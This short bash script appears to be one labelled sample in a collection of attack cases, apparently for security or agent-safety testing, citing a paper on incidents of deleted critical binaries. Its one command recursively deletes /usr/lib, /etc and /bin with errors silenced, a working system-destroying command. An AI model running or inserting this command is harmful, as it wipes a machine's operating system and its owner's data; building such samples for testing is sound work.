#!/bin/bash
# class: node_attack
# does: removes the system
# source: DSec paper, security incidents: deleted critical binaries
# repo: any
# when: last
rm -rf --no-preserve-root /usr/lib /etc /bin/* 2>/dev/null
